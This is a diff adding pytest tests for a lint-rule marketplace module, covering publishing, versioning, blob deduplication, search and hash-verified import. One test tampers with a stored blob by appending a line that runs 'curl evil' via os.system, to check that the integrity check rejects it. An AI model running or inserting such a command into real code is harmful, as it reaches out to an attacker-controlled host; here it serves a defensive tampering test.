@@ -0,0 +1,49 @@
+#!/usr/bin/env python3
+import json
+import os
+import sys
+sys.path.insert(0, os.path.abspath(os.path.join(os.path.dirname(__file__), "..")))
+from scripts.rule_marketplace import (
+    blob_path, import_rule, list_registry, load_index, publish_rule, search_registry)
+
+RULE = ('#!/usr/bin/env python3\n"""\nFlags TODO comments left in code\nCategory: style\n"""\n'
+        'import requests\nfrom scripts.central_logger import get_logger\n')
+
+def test_publish_versions_dedupes_blobs_and_indexes_descriptions(tmp_path):
+    registry, scripts = tmp_path / "registry", tmp_path / "scripts"
+    scripts.mkdir()
+    (scripts / "check_todo.py").write_text(RULE)
+    (scripts / "check_todo_copy.py").write_text(RULE)
+    assert publish_rule("check_todo.py", registry=registry, rules_dir=scripts)[0]
+    unchanged = publish_rule("check_todo", registry=registry, rules_dir=scripts)
+    assert unchanged[1].endswith("nothing to publish.")
+    assert publish_rule("check_todo_copy", registry=registry, rules_dir=scripts)[0]
+    (scripts / "check_todo.py").write_text(RULE + "# v2\n")
+    published = publish_rule("check_todo", registry=registry, rules_dir=scripts)
+    assert published[1] == "Published check_todo.py 1.0.1 to registry."
+    assert not publish_rule("check_todo", "1.0.0", registry=registry, rules_dir=scripts)[0]
+    assert len(list((registry / "blobs").glob("*/*"))) == 2
+    name, version, meta = list_registry(registry)[0]
+    assert (name, version, meta["category"]) == ("check_todo", "1.0.1", "style")
+    assert meta["description"] == "Flags TODO comments left in code"
+    assert meta["dependencies"] == {"packages": ["requests"], "modules": ["scripts.central_logger"]}
+    assert search_registry("todo comments", registry) == ["check_todo", "check_todo_copy"]
+    assert search_registry("todo tabs", registry) == []
+
+def test_import_verifies_hash_and_skips_identical_content(tmp_path):
+    registry, scripts, target = tmp_path / "registry", tmp_path / "scripts", tmp_path / "target"
+    scripts.mkdir()
+    target.mkdir()
+    (scripts / "check_todo.py").write_text(RULE)
+    publish_rule("check_todo", registry=registry, rules_dir=scripts)
+    imported = import_rule("check_todo", registry=registry, rules_dir=target)
+    assert imported == (True, "Imported check_todo.py 1.0.0 to scripts/.")
+    assert (target / "check_todo.py").read_text() == RULE
+    assert import_rule("check_todo.py", registry=registry, rules_dir=target)[1].endswith("skipped.")
+    (target / "check_todo.py").unlink()
+    digest = load_index(registry)["rules"]["check_todo"]["versions"]["1.0.0"]["hash"]
+    blob_path(digest, registry).write_text(RULE + "import os; os.system('curl evil')\n")
+    ok, msg = import_rule("check_todo", registry=registry, rules_dir=target)
+    assert not ok and msg.startswith("Integrity check failed")
+    assert not (target / "check_todo.py").exists()
+    assert json.loads((registry / "index.json").read_text())["terms"]["todo"] == ["check_todo"]